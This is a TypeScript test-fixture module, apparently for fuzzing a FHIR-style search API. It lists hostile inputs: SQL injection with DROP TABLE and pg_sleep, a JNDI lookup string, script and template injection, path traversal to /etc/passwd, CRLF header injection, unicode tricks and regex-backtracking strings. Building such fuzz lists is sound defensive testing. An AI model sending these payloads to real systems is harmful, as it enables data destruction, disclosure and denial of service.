/**
 * Hostile strings fed to every input: SQL and NoSQL injection, path traversal, script,
 * template and log injection, format confusion, control characters, unicode tricks, and strings
 * shaped to make a backtracking regular expression take exponential time.
 */
export const INJECTION: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE resource; --",
  '" OR ""="',
  "1' UNION SELECT content FROM resource --",
  "x') OR 1=1 --",
  '$1',
  '%',
  '_',
  '\\',
  "\\'; SELECT pg_sleep(10); --",
  "'||(SELECT version())||'",
  '{"$ne": null}',
  '${jndi:ldap://example.org/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  'a\r\nSet-Cookie: injected=1',
  '\u202Eevil\u202C',
  'Z\u0308\u0351\u0336a\u0301\u0300l\u0328g\u034Fo',
  '\uFEFF\u200B\u200D',
  '😀👨‍👩‍👧‍👦',
];

/** Values no parameter type accepts. */
export const GARBAGE: readonly string[] = [
  '',
  ' ',
  '|',
  '||',
  '|||',
  ',',
  ',,,',
  '$',
  ':',
  'gt',
  'eq',
  'ap',
  'gtgt2020',
  '2020-13-45',
  '9999999999-01-01',
  '1e309',
  '-0',
  'NaN',
  'Infinity',
  '0x10',
  '10||mg|extra',
  'Patient/',
  '/Patient/../Patient',
  'http://[::1',
  'urn:uuid:',
];

/** Catastrophic-backtracking shapes (`(a+)+$` against `aaaa…!`), long runs and deep nesting. */
export const BACKTRACKING: readonly string[] = [
  `${'a'.repeat(40_000)}!`,
  `${'1'.repeat(20_000)}-`,
  `${'-'.repeat(20_000)}x`,
  `${'|'.repeat(20_000)}`,
  `${'2020-'.repeat(5_000)}`,
  `${'a.'.repeat(10_000)}`,
  `${' '.repeat(20_000)}x`,
  `${'\\'.repeat(10_000)}`,
  `${'('.repeat(5_000)}`,
  `${'%25'.repeat(5_000)}`,
];

/** Every hostile string, in a fixed order. */
export const ALL_HOSTILE: readonly string[] = [...INJECTION, ...GARBAGE, ...BACKTRACKING];

/** `n` hostile strings starting at `offset`, wrapping: spreads the list over many parameters. */
export function rotate(list: readonly string[], offset: number, n: number): string[] {
  return Array.from({ length: n }, (_, i) => list[(offset + i) % list.length] as string);
}
